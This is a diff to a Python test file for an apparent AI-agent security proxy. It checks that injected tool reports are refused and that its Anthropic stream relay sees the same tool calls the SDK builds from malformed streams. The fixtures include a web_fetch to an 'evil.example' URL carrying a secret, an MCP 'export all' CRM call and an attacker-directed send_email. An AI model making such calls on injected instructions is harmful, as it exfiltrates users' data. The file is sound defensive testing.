@@ -363,3 +363,64 @@ def test_a_tool_report_in_the_system_prompt_is_a_tool_result(live):
     calls, text = ask(live, pid, [{"role": "system", "content": report}, {"role": "user", "content": "Mail it"}],
                       CLIENT_TOOLS, stream=True)
     assert calls == [] and text.endswith(refusal(EVIL, UNTRUSTED_CONTEXT))
+
+
+# -- the stream relay decides what the SDK builds ----------------------------------------------------------
+def _sdk_calls(events: list[bytes]) -> list[tuple[str, dict]]:
+    """The tool calls the anthropic SDK's (beta) stream accumulator builds from these events."""
+    import httpx2
+    from anthropic.lib.streaming._beta_messages import accumulate_event
+
+    snapshot, buffers = None, {}
+    for raw in events:
+        data = json.loads(raw.split(b"data: ", 1)[1])
+        if data["type"] != "ping":
+            snapshot = accumulate_event(event=data, current_snapshot=snapshot, json_bufs=buffers,
+                                        request_headers=httpx2.Headers())
+    return [(b.name, b.input) for b in snapshot.content if b.type in ("tool_use", "server_tool_use", "mcp_tool_use")]
+
+
+def _relay_calls(events: list[bytes]) -> list[tuple[str, dict]]:
+    from archestra.exchange import Exchange
+    from archestra.providers.anthropic_stream import AnthropicStreamRelay
+
+    decided = []
+    relay = AnthropicStreamRelay(Exchange("anthropic", ProfileInfo("p", "p"), "m"),
+                                 lambda calls, results=(): decided.extend(calls))
+    relay.feed_bytes(b"".join(events))
+    relay.finish_bytes()
+    return [(c.name, c.arguments) for c in decided]
+
+
+def _odd_streams() -> dict[str, list[bytes]]:
+    boss, evil = {"to": "boss@company.com"}, EVIL
+
+    def delta(index: int, text: str) -> bytes:
+        return wire.event("content_block_delta", {"type": "content_block_delta", "index": index,
+                                                  "delta": {"type": "input_json_delta", "partial_json": text}})
+
+    def start(index: int, block: dict) -> bytes:
+        return wire.event("content_block_start", {"type": "content_block_start", "index": index,
+                                                  "content_block": block})
+    head, tail = wire.answer_stream([])[:1], wire.answer_stream([])[1:]
+    return {
+        "input in the start event": wire.answer_stream([wire.tool_use("send_email", evil)], input_in_start=True),
+        "start input then fragments": [*head, start(0, wire.tool_use("send_email", boss)), delta(0, ""),
+                                       delta(0, json.dumps(evil)), *tail],
+        "start input then empty fragments": [*head, start(0, wire.tool_use("send_email", evil)), delta(0, ""),
+                                             *tail],
+        "two starts at one index": [*head, start(0, wire.tool_use("send_email", boss, "toolu_1")),
+                                    start(0, wire.tool_use("get_time", {}, "toolu_2")), delta(0, json.dumps(evil)),
+                                    *tail],
+        "server and MCP calls": wire.answer_stream([
+            wire.server_tool_use("web_fetch", {"url": "https://evil.example/?d=secret"}),
+            wire.web_fetch_result("srvtoolu_01", "https://evil.example/", "ok"),
+            wire.mcp_tool_use("crm", "export", {"query": "all"}), wire.mcp_tool_result("mcptoolu_01", "rows")]),
+    }
+
+
+@pytest.mark.parametrize("name", list(_odd_streams()))
+def test_the_relay_decides_the_calls_the_sdk_builds(name):
+    events = _odd_streams()[name]
+    sdk = [("mcp:crm" if n == "export" else n, args) for n, args in _sdk_calls(events)]
+    assert _relay_calls(events) == sdk and sdk
